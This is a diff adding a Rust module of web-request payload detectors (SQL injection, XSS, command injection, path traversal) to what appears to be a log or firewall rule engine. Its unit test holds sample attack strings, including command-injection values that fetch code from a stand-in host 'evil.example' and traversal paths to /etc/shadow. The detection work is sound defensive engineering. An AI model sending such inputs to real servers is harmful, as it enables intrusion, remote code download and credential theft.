@@ -1,0 +1,266 @@
+//! Payload detectors: SQL injection, cross-site scripting, OS command
+//! injection and path traversal in a request's values, as the rule
+//! operators `sqli`, `xss`, `cmdi` and `traversal` (see
+//! docs/payload-detectors.md).
+//!
+//! A field is split the way a server reads it (the path before `?`, each
+//! query parameter's value, and for command injection and traversal the
+//! whole query too when it holds raw shell punctuation), each piece is
+//! normalised ([`decode::normalize`]:
+//! repeated percent-decoding, `%u`, overlong UTF-8, NULs, case) and handed
+//! to a tokenizing detector. Pieces made only of bytes no payload of the
+//! class needs are skipped before any decoding, so ordinary traffic costs
+//! a table lookup per byte; all buffers live in [`PayloadScratch`] and are
+//! reused, so no line allocates once they have grown.
+
+pub mod cmdi;
+pub mod decode;
+pub mod eval;
+pub mod sqli;
+pub mod traversal;
+pub mod xss;
+
+/// A payload class.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Payload {
+    Sqli,
+    Xss,
+    Cmdi,
+    Traversal,
+}
+
+impl Payload {
+    pub const ALL: [Payload; 4] = [
+        Payload::Sqli,
+        Payload::Xss,
+        Payload::Cmdi,
+        Payload::Traversal,
+    ];
+
+    pub fn name(&self) -> &'static str {
+        match self {
+            Payload::Sqli => "sqli",
+            Payload::Xss => "xss",
+            Payload::Cmdi => "cmdi",
+            Payload::Traversal => "traversal",
+        }
+    }
+
+    /// Bytes that can start to make a value interesting for this class;
+    /// a piece with none of them is skipped undecoded.
+    fn interesting(&self, c: u8) -> bool {
+        let common = matches!(
+            c,
+            b'%' | b'+'
+                | b'\\'
+                | b'\''
+                | b'"'
+                | b'`'
+                | b'('
+                | b';'
+                | b'<'
+                | b'&'
+                | b'|'
+                | b'$'
+                | b' '
+                | b'\t'
+                | b'\n'
+                | b'\r'
+        ) || !(0x20..0x80).contains(&c);
+        common
+            || match self {
+                Payload::Sqli => matches!(c, b'#' | b'=' | b'>' | b'@' | b'*' | b')' | b'-'),
+                Payload::Xss => matches!(c, b':' | b'>' | b'{' | b'[' | b'='),
+                Payload::Cmdi => matches!(c, b'/' | b'{' | b'>' | b')'),
+                Payload::Traversal => matches!(c, b'.' | b'/' | b':'),
+            }
+    }
+}
+
+/// Reused buffers of the detectors; one per evaluating thread.
+#[derive(Debug, Default)]
+pub struct PayloadScratch {
+    norm: Vec<u8>,
+    tmp: Vec<u8>,
+    alt: Vec<u8>,
+    alt2: Vec<u8>,
+    sqli: sqli::Sqli,
+}
+
+impl PayloadScratch {
+    pub fn new() -> PayloadScratch {
+        PayloadScratch::default()
+    }
+}
+
+/// True when `text` (a field as logged; case does not matter) carries a
+/// payload of this class in its path, any query value, or as a whole.
+pub fn detect(kind: Payload, text: &str, sc: &mut PayloadScratch) -> bool {
+    let b = text.as_bytes();
+    let Some(q) = memchr::memchr(b'?', b) else {
+        return piece(kind, b, sc);
+    };
+    if piece(kind, &b[..q], sc) {
+        return true;
+    }
+    let query = &b[q + 1..];
+    // A fragment is not sent by browsers; in a log it is part of a value.
+    for param in query.split(|c| *c == b'&') {
+        let value = match memchr::memchr(b'=', param) {
+            Some(e) => &param[e + 1..],
+            None => param,
+        };
+        if piece(kind, value, sc) {
+            return true;
+        }
+    }
+    // A raw `&` inside an unencoded command splits it above
+    // (`;id&&whoami`, `a|b&c`): with raw shell punctuation in the query,
+    // commands are also looked for in the query as one.
+    kind == Payload::Cmdi
+        && query.contains(&b'&')
+        && query
+            .iter()
+            .any(|c| matches!(c, b';' | b'|' | b'`' | b'$' | b'<' | b'>'))
+        && piece(kind, query, sc)
+}
+
+/// One value, exactly as given (no splitting): what the evaluation set
+/// and the fuzz target feed.
+pub fn detect_value(kind: Payload, value: &[u8], sc: &mut PayloadScratch) -> bool {
+    piece(kind, value, sc)
+}
+
+fn piece(kind: Payload, raw: &[u8], sc: &mut PayloadScratch) -> bool {
+    if raw.len() < 2 || !raw.iter().any(|c| kind.interesting(*c)) {
+        // A bare reconnaissance program as the whole value (`whoami`)
+        // needs no shell syntax.
+        if kind != Payload::Cmdi || raw.len() > 10 {
+            return false;
+        }
+        let mut low = [0u8; 10];
+        low[..raw.len()].copy_from_slice(raw);
+        low.make_ascii_lowercase();
+        return cmdi::recon(&low[..raw.len()]);
+    }
+    let needs_fold = raw.iter().any(|c| {
+        matches!(c, b'%' | b'+' | b'\\') || *c >= 0x80 || c.is_ascii_uppercase() || *c == 0
+    });
+    let mut norm = std::mem::take(&mut sc.norm);
+    let s: &[u8] = if needs_fold {
+        decode::normalize(raw, &mut norm, &mut sc.tmp);
+        &norm
+    } else {
+        raw
+    };
+    let hit = match kind {
+        Payload::Sqli => sc.sqli.detect(s),
+        Payload::Xss => {
+            // Markup parsers drop NULs (`<scr\0ipt>`, `java\0script:`).
+            let s = if memchr::memchr(0, s).is_some() {
+                sc.tmp.clear();
+                sc.tmp.extend(s.iter().filter(|c| **c != 0));
+                &sc.tmp
+            } else {
+                s
+            };
+            xss::detect(s)
+                || (decode::html_entities(s, &mut sc.alt, &mut sc.alt2) && xss::detect(&sc.alt))
+        }
+        Payload::Cmdi => cmdi::detect(s, &mut sc.alt),
+        Payload::Traversal => {
+            if traversal::detect(s) {
+                true
+            } else if memchr::memchr(b'\\', s).is_some()
+                || memchr::memchr_iter(b'x', s).any(|p| p > 0 && s[p - 1] == b'0')
+            {
+                // Windows separators and the `0x2e` spelling some lists
+                // use, read as `/` and `.`.
+                sc.alt.clear();
+                let mut i = 0;
+                while i < s.len() {
+                    if s[i..].starts_with(b"0x2e") {
+                        sc.alt.push(b'.');
+                        i += 4;
+                    } else if s[i..].starts_with(b"0x2f") || s[i..].starts_with(b"0x5c") {
+                        sc.alt.push(b'/');
+                        i += 4;
+                    } else {
+                        sc.alt.push(if s[i] == b'\\' { b'/' } else { s[i] });
+                        i += 1;
+                    }
+                }
+                traversal::detect(&sc.alt)
+            } else {
+                false
+            }
+        }
+    };
+    sc.norm = norm;
+    hit
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn fields_are_split_like_a_server_reads_them() {
+        let mut sc = PayloadScratch::new();
+        let d = |k, t: &str, sc: &mut PayloadScratch| detect(k, t, sc);
+        assert!(d(
+            Payload::Sqli,
+            "/item.php?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--",
+            &mut sc
+        ));
+        assert!(d(
+            Payload::Sqli,
+            "/login?user=admin'%20or%20'1'='1&x=2",
+            &mut sc
+        ));
+        assert!(!d(Payload::Sqli, "/search?q=O%27Brien&page=2", &mut sc));
+        assert!(d(
+            Payload::Xss,
+            "/s?q=%253Csvg%2520onload%253Dprompt(1)%253E",
+            &mut sc
+        ));
+        assert!(d(
+            Payload::Cmdi,
+            "/ping?host=127.0.0.1;wget%20http://evil.example/x.sh",
+            &mut sc
+        ));
+        assert!(d(
+            Payload::Cmdi,
+            "/cgi-bin/;cd${IFS}/tmp;$(curl${IFS}evil.example)",
+            &mut sc
+        ));
+        assert!(!d(
+            Payload::Cmdi,
+            "/api/v1/items?page=2&id=5&per_page=50",
+            &mut sc
+        ));
+        assert!(d(
+            Payload::Traversal,
+            "/download?file=%2e%2e%2f%2e%2e%2fetc%2fshadow",
+            &mut sc
+        ));
+        assert!(d(
+            Payload::Traversal,
+            "/a/..\\x5c..\\x5cwindows\\x5csystem32\\x5ccmd.exe",
+            &mut sc
+        ));
+        assert!(d(
+            Payload::Traversal,
+            "/img?f=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini",
+            &mut sc
+        ));
+        for k in Payload::ALL {
+            assert!(!d(k, "/static/js/app.3f9a1c.js", &mut sc), "{k:?}");
+            assert!(
+                !d(k, "/search?q=running+shoes&sort=price", &mut sc),
+                "{k:?}"
+            );
+            assert!(!d(k, "/products/4711?ref=home&v=123456", &mut sc), "{k:?}");
+        }
+    }
+}
